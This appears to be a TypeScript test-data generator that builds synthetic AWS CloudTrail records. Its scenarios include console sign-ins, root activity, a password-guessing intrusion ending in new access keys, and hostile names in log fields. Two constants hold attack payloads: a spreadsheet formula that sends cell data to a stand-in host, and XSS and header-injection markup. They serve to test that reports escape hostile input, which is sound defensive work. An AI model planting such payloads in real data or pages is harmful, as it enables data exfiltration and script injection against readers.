import { DAY, HOUR, type Instant, LAST_DAY } from './calendar.ts';
import { isGlobal, recordOf, type Session, UNUSUAL_FORMS } from './call.ts';
import { callOf } from './calls.ts';
import type { Cast } from './cast.ts';
import * as company from './company.ts';
import * as identity from './identity.ts';
import type { Random } from './random.ts';
import type { CloudTrailRecord, Occurrence, UserIdentity } from './record.ts';
import * as signIns from './sign-ins.ts';

const { BOTO, CHROME, CLI, GUESSER, HEADLESS, IRELAND, LONDON_OFFICE, MANAGEMENT, NEW_YORK_OFFICE, OHIO } =
  company;
const { PRODUCTION, SECURITY, STAGING, SYDNEY, SYDNEY_HOME, TOKYO, TOKYO_OFFICE, VIRGINIA } = company;

/** A cell that runs in a spreadsheet, and markup that runs in a page. */
const FORMULA = '=HYPERLINK("http://198.51.100.66/?leak="&A1,"open")';
const MARKUP =
  'curl/8.5.0 "quoted", <script>alert(document.cookie)</script>\nX-Second-Line: 1,2,3\t<img src=x onerror=alert(1)>';

/** Days with fewer events than this have no story, except the last: there would be little else. */
const BUSY_DAY = 500;

/** What happens in every sample: all of it on the last day, so that a report of that day shows it. */
export function storiesOf(cast: Cast, days: number, events: number, random: Random): Occurrence[] {
  const last = new Stage(cast, random, LAST_DAY);
  const stories = [visitors, lateSignIns, rootAtWork, attack, hostileNames, strangers, unusualTypes];
  const told = stories.flatMap((story) => story(last));
  for (let back = 1; back < days && events / days >= BUSY_DAY; back++) {
    const stage = new Stage(cast, random, LAST_DAY - back * DAY);
    told.push(...lateSignIns(stage));
    if (back % 3 === 1) told.push(...guesses(stage, [cast.user('awsadmin'), MANAGEMENT, PRODUCTION]));
  }
  return told;
}

type SignIn = (visitor: signIns.Visitor) => CloudTrailRecord;
type Delivery = Occurrence['delivery'];

/** A day on which something is told. */
class Stage {
  constructor(
    readonly cast: Cast,
    readonly random: Random,
    readonly day: Instant,
  ) {}

  /** @param clock UTC: `09:05:00` */
  at(clock: string): Instant {
    const [hours = 0, minutes = 0, seconds = 0] = clock.split(':').map(Number);
    return this.day + hours * HOUR + minutes * 60 + seconds;
  }

  signIns(
    agent: string,
    rows: [clock: string, region: string, address: string, SignIn, Delivery?][],
  ): Occurrence[] {
    return rows.map(([clock, region, address, record, delivery]) => {
      const at = this.at(clock);
      return { at, record: record({ random: this.random, at, region, address, agent }), delivery };
    });
  }

  /** @param titles calls, twenty seconds apart; with `!` they are refused, and what follows `=` is their userName */
  calls(clock: string, region: string, session: Session, titles: string): Occurrence[] {
    return titles.split(' ').map((title, n) => {
      const [, name = '', userName, fails] = /^([\w:]+)=?([\w-]+)?(!)?$/.exec(title) ?? [];
      const call = { ...callOf(name), ...(userName && { request: { userName } }) };
      const scene = { random: this.random, session, region: isGlobal(call) ? VIRGINIA : region };
      const at = this.at(clock) + 20 * n;
      return { at, record: recordOf(call, { ...scene, at }, fails !== undefined) };
    });
  }

  keyed(user: identity.Principal, address: string, agent: string): Session {
    const who = identity.userIdentity(user, { accessKeyId: identity.idOf('AKIA', this.random) });
    return { account: user.account, identity: who, address, agent };
  }
}

/** Every way into the console, and what the sign-in pages record besides. */
function visitors(stage: Stage): Occurrence[] {
  const { administrators, engineers, user } = stage.cast;
  const [tanaka, suzuki, alice, awsadmin] = ['tanaka', 'suzuki', 'alice', 'awsadmin'].map(user) as Users;
  const crossAccount = identity.iamRole(stage.random, PRODUCTION, 'OrganizationAccountAccessRole');
  const portalUser = '9567a1b2c3-4d5e6f70-1234-4abc-8def-0123456789ab';
  // biome-ignore format: a table
  return stage.signIns(CHROME, [
    ['00:04:12', VIRGINIA, TOKYO_OFFICE, (at) => signIns.checkMfa(at, tanaka)],
    ['00:04:21', VIRGINIA, TOKYO_OFFICE, (at) => signIns.userLogin(at, tanaka, 'Yes')],
    ['00:12:20', TOKYO, TOKYO_OFFICE, (at) => signIns.portalSignIn(at, portalUser, 'Success')],
    ['00:12:31', TOKYO, TOKYO_OFFICE, (at) => signIns.roleLogin(at, administrators, 'hanako.yamada@example.com')],
    ['00:31:40', SYDNEY, TOKYO_OFFICE, (at) => signIns.userLogin(at, suzuki, 'Yes')],
    ['00:47:03', VIRGINIA, TOKYO_OFFICE, (at) => signIns.userLogin(at, awsadmin, 'No')],
    ['01:15:55', TOKYO, TOKYO_OFFICE, (at) => signIns.userLogin(at, tanaka, 'YES')],
    ['05:10:02', VIRGINIA, TOKYO_OFFICE, (at) => signIns.failedUserLogin(at, suzuki, 'Yes')],
    ['05:10:23', VIRGINIA, TOKYO_OFFICE, (at) => signIns.failedUserLogin(at, suzuki, 'NO')],
    ['05:10:57', VIRGINIA, TOKYO_OFFICE, (at) => signIns.userLogin(at, suzuki, 'Yes')],
    ['06:40:17', VIRGINIA, TOKYO_OFFICE, (at) => signIns.unknownUserLogin(at, SECURITY)],
    ['06:40:47', VIRGINIA, TOKYO_OFFICE, (at) => signIns.unknownUserLogin(at, PRODUCTION), 'twice'],
    ['08:12:26', TOKYO, LONDON_OFFICE, (at) => signIns.portalSignIn(at, portalUser, 'Failure')],
    ['08:55:09', IRELAND, LONDON_OFFICE, (at) => signIns.roleLogin(at, engineers, 'grace.oconnor', company.SAML_PROVIDER)],
    ['09:02:31', OHIO, LONDON_OFFICE, (at) => signIns.checkMfa(at, alice)],
    ['09:02:45', OHIO, LONDON_OFFICE, (at) => signIns.userLogin(at, alice, 'Yes')],
    ['09:20:44', VIRGINIA, LONDON_OFFICE, (at) => signIns.switchRole(at, alice, crossAccount)],
    ['10:05:12', VIRGINIA, LONDON_OFFICE, (at) => signIns.federatedLogin(at, awsadmin, 'auditor')],
    ['13:30:48', VIRGINIA, NEW_YORK_OFFICE, (at) => signIns.roleLogin(at, administrators, 'liam.smith@example.com'), 'twice'],
  ]);
}
type Users = [identity.Principal, identity.Principal, identity.Principal, identity.Principal];

/** Sign-ins of a day in the next day's folder: one held up for hours, one just before midnight. */
function lateSignIns(stage: Stage): Occurrence[] {
  const { administrators, user } = stage.cast;
  // biome-ignore format: a table
  return stage.signIns(CHROME, [
    ['20:14:26', VIRGINIA, SYDNEY_HOME, (at) => signIns.roleLogin(at, administrators, 'liam.smith@example.com'), 'late'],
    ['23:59:17', VIRGINIA, TOKYO_OFFICE, (at) => signIns.userLogin(at, user('tanaka'), 'Yes')],
  ]);
}

/** Root signs in, at the second try, for the few things that only root may do. */
function rootAtWork(stage: Stage): Occurrence[] {
  const key = { accessKeyId: identity.idOf('ASIA', stage.random) };
  const root = identity.rootIdentity(MANAGEMENT, {
    ...key,
    ...identity.signedIn(stage.at('02:16:05'), true),
  });
  const session = {
    account: MANAGEMENT,
    identity: root,
    address: TOKYO_OFFICE,
    agent: CHROME,
    console: true,
  };
  return [
    ...stage.signIns(CHROME, [
      ['02:15:01', VIRGINIA, TOKYO_OFFICE, (at) => signIns.failedRootLogin(at, MANAGEMENT)],
      ['02:16:05', VIRGINIA, TOKYO_OFFICE, (at) => signIns.rootLogin(at, MANAGEMENT)],
      ['02:20:01', VIRGINIA, TOKYO_OFFICE, (at) => signIns.passwordUpdated(at, MANAGEMENT)],
    ]),
    ...stage.calls('02:17:00', VIRGINIA, session, 'iam:GetAccountSummary iam:ListMFADevices'),
    ...stage.calls('02:18:00', VIRGINIA, session, 'iam:GenerateCredentialReport account:PutAlternateContact'),
  ];
}

/** One address tries names and passwords, gets in by a forgotten user without MFA, and makes access keys. */
function attack(stage: Stage): Occurrence[] {
  const { user } = stage.cast;
  const forgotten = user('legacy-report');
  const users = [
    user('suzuki'),
    user('suzuki'),
    forgotten,
    user('awsadmin'),
    user('awsadmin'),
    user('tanaka'),
  ];
  const targets = [...users, PRODUCTION, MANAGEMENT, ...users];
  const since = identity.signedIn(stage.at('17:53:38'), false);
  const browser = { ...stage.keyed(forgotten, GUESSER, HEADLESS), console: true };
  Object.assign(browser.identity, { accessKeyId: identity.idOf('ASIA', stage.random), ...since });
  const script = stage.keyed(forgotten, GUESSER, BOTO);
  const denied =
    'iam:AttachUserPolicy! secretsmanager:GetSecretValue! ec2:RunInstances! cloudtrail:StopLogging!';
  return [
    ...guesses(stage, targets),
    ...stage.signIns(HEADLESS, [
      ['17:53:38', VIRGINIA, GUESSER, (at) => signIns.userLogin(at, forgotten, 'No')],
    ]),
    ...stage.calls(
      '17:54:10',
      TOKYO,
      browser,
      'iam:GetAccountSummary iam:ListUsers iam:ListRoles s3:ListBuckets',
    ),
    ...stage.calls(
      '17:56:20',
      TOKYO,
      browser,
      'iam:CreateAccessKey=legacy-report iam:CreateAccessKey=backup-agent',
    ),
    ...stage.calls('18:01:00', SYDNEY, script, 'sts:GetCallerIdentity iam:ListUsers ec2:DescribeInstances'),
    ...stage.calls('18:02:10', SYDNEY, script, denied),
    ...stage.calls(
      '18:02:41',
      TOKYO,
      stage.keyed(user('tanaka'), TOKYO_OFFICE, CLI),
      'iam:CreateAccessKey=deploy-old',
    ),
  ];
}

/** @param targets users, or accounts in which a name is tried that they do not have */
function guesses(stage: Stage, targets: (identity.Principal | string)[]): Occurrence[] {
  const first = stage.at('17:47:05');
  return targets.map((target, n) => {
    const at = first + 25 * n;
    const visitor = { random: stage.random, at, region: VIRGINIA, address: GUESSER, agent: HEADLESS };
    const unknown = typeof target === 'string';
    const { unknownUserLogin, failedUserLogin } = signIns;
    return {
      at,
      record: unknown ? unknownUserLogin(visitor, target) : failedUserLogin(visitor, target, 'No'),
    };
  });
}

/** What strangers choose to write into the logs. IAM refuses most of these names, but a reader must not rely on it. */
function hostileNames(stage: Stage): Occurrence[] {
  const { random, cast } = stage;
  const named = (name: string) => identity.iamUser(random, STAGING, name);
  const lookups = [FORMULA, '=1+1@example.com', '田中太郎'].flatMap((name, n) =>
    stage.calls(`19:1${n}:40`, TOKYO, stage.keyed(named(name), GUESSER, MARKUP), 'iam:GetUser!'),
  );
  // biome-ignore format: a table
  const rows = stage.signIns(MARKUP, [
    ['07:33:00', TOKYO, TOKYO_OFFICE, (at) => signIns.roleLogin(at, cast.administrators, '田中花子@example.com')],
    ['19:05:11', VIRGINIA, GUESSER, (at) => signIns.unknownUserLogin({ ...at, agent: FORMULA }, PRODUCTION)],
    ['19:05:44', VIRGINIA, GUESSER, (at) => signIns.failedUserLogin(at, named('+1-555-0100@example.com'), 'No')],
  ]);
  return [...rows, ...lookups];
}

/** Identities that no IAM user or role has: from other accounts and providers, of no known type, of no type at all. */
function strangers(stage: Stage): Occurrence[] {
  const { SAML_PROVIDER, OIDC_PROVIDER } = company;
  const { random, cast } = stage;
  const principalId = `${identity.idOf('AROA', random)}:scan`;
  // biome-ignore format: a table
  const rows: [string, UserIdentity, string][] = [
    ['07:31:00', { type: 'SAMLUser', principalId: '6Kb0d2bV8u:田中 花子', userName: '田中 花子', identityProvider: SAML_PROVIDER }, 'sts:AssumeRoleWithSAML'],
    ['09:41:00', { type: 'WebIdentityUser', userName: 'repo:example-corp/shop', identityProvider: OIDC_PROVIDER }, 'sts:AssumeRoleWithWebIdentity'],
    ['10:06:00', identity.federatedIdentity(cast.user('awsadmin'), 'auditor', stage.at('10:05:12')), 's3:ListBuckets'],
    ['10:30:00', { type: 'AWSAccount', principalId, accountId: SECURITY }, 'sts:AssumeRole'],
    ['11:20:00', { type: 'AWSAccount', principalId: '', accountId: 'ANONYMOUS_PRINCIPAL' }, 's3:GetObject'],
    ['11:21:00', { type: 'Unknown', principalId: '', accountId: PRODUCTION }, 'sts:GetCallerIdentity'],
    ['11:22:00', { invokedBy: 'delivery.logs.amazonaws.com' }, 's3:PutObject'],
  ];
  return rows.flatMap(([clock, who, title]) =>
    stage.calls(
      clock,
      TOKYO,
      { account: PRODUCTION, identity: who, address: '192.0.2.211', agent: BOTO },
      title,
    ),
  );
}

function unusualTypes(stage: Stage): Occurrence[] {
  const session = stage.keyed(stage.cast.user('tanaka'), TOKYO_OFFICE, CLI);
  return UNUSUAL_FORMS.flatMap((form, n) =>
    stage.calls(`04:44:0${n}`, TOKYO, session, 'ec2:DescribeInstances').map(({ at, record }) => {
      return { at, record: { ...record, ...form(record) } };
    }),
  );
}
